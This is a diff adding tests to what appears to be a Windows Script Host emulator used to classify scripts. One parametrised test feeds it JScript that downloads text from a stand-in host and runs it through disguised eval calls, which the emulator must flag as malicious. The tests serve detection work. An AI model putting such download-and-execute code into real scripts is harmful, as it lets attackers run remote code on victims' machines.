@@ -101,3 +101,54 @@ def test_a_zygote_that_is_gone_is_replaced() -> None:
         assert _run(wsh, "vbscript", "WScript.Echo 2").output == b"2"
     finally:
         guests.close()
+
+
+_ASKED = "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example/', false); x.send(); "
+
+
+@pytest.mark.parametrize(
+    "use",
+    [
+        "this['eval'](x.responseText);",
+        "var e = eval; e(x.responseText);",
+        "eval('eval(x.responseText)');",
+        "[x.responseText].forEach(eval);",
+        "(0, eval)(x.responseText);",
+    ],
+)
+def test_code_of_the_network_is_heard_however_it_is_run(wsh: ScriptEnvironment, use: str) -> None:
+    assert verdict_of(_run(wsh, "javascript", _ASKED + use)) is Verdict.MALICIOUS
+
+
+def test_data_of_the_network_is_no_code(wsh: ScriptEnvironment) -> None:
+    text = _ASKED + "var data = eval('(' + x.responseText + ')'); WScript.Echo(data);"
+    assert verdict_of(_run(wsh, "javascript", text)) is Verdict.CLEAN
+
+
+def test_plain_eval_sees_the_variables_of_its_function(wsh: ScriptEnvironment) -> None:
+    text = "function f() { var q = 5; return eval('q + eval(\"q\")'); } WScript.Echo(f());"
+    assert _run(wsh, "javascript", text).output == b"10"
+
+
+def test_languages_of_one_job_share_their_variables(wsh: ScriptEnvironment) -> None:
+    job = """<job><script language="VBScript">Word = "from Basic"</script>
+<script language="JScript">WScript.Echo(Word); var more = "and back"; Word = 7;</script>
+<script language="VBScript">WScript.Echo more, Word</script></job>"""
+    assert _run(wsh, "wsf", job).output == b"from Basic\r\nand back 7"
+
+
+def test_objects_of_own_classes_end(wsh: ScriptEnvironment) -> None:
+    text = """Class K
+Private Sub Class_Terminate() : WScript.Echo "ended" : End Sub
+End Class
+Set a = New K : Set b = New K : Set a = Nothing : WScript.Echo "last" """
+    assert _run(wsh, "vbscript", text).output == b"ended\r\nlast\r\nended"
+
+
+def test_a_file_that_is_deleted_again_is_handed_back(wsh: ScriptEnvironment) -> None:
+    text = (
+        'Set f = CreateObject("Scripting.FileSystemObject")\n'
+        'f.CreateTextFile("C:\\Windows\\Temp\\a.vbs").Write "x"\n'
+        'f.DeleteFile "C:\\Windows\\Temp\\a.vbs"'
+    )
+    assert [child.data for child in _run(wsh, "vbscript", text).children] == [b"x"]
